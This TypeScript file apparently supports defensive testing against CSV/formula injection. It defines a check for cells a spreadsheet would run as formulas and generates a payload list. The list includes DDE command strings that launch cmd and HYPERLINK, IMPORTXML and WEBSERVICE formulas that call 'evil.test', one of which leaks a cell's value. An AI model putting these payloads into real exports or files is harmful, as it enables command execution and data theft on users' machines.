/** What a spreadsheet runs (ASVS 1.2.10, OWASP "CSV Injection"), by a rule of its own and not by that of the product. */
const FORMULA = new Set([...'=+-@', '\uff1d', '\uff0b', '\uff0d', '\uff20']);
const STARTERS = new Set([...FORMULA, '\t', '\r', '\0']);

/** Spreadsheets look past blanks in front. */
export function runsAsFormula(cell: string): boolean {
  const [first] = cell;
  if (first !== undefined && STARTERS.has(first)) return true;
  const [shown] = cell.replace(/^[\s\u00a0\ufeff\u200b]+/u, '');
  return shown !== undefined && FORMULA.has(shown);
}

const BODIES = [
  '1+1',
  'SUM(1)*cmd|"/C calc"!A0',
  'HYPERLINK("http://evil.test?x="&A1,"click")',
  'IMPORTXML("http://evil.test","//a")',
  'WEBSERVICE("http://evil.test")',
  'cmd|" /C notepad"!"A1"',
  '10+20+cmd|" /C calc"!A0',
  'DDE("cmd";"/C calc";"x")',
];
const STARTS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\t', '\r', '\n', '\0'];
const BEFORE = ['', ' ', '\t', '\n', '"', "'", '\u00a0', '\ufeff', "'' "];

/** Text that somebody may put into a name. */
export const PAYLOADS: readonly string[] = BEFORE.flatMap((before) =>
  STARTS.flatMap((start) => BODIES.map((body) => `${before}${start}${body}`)),
);
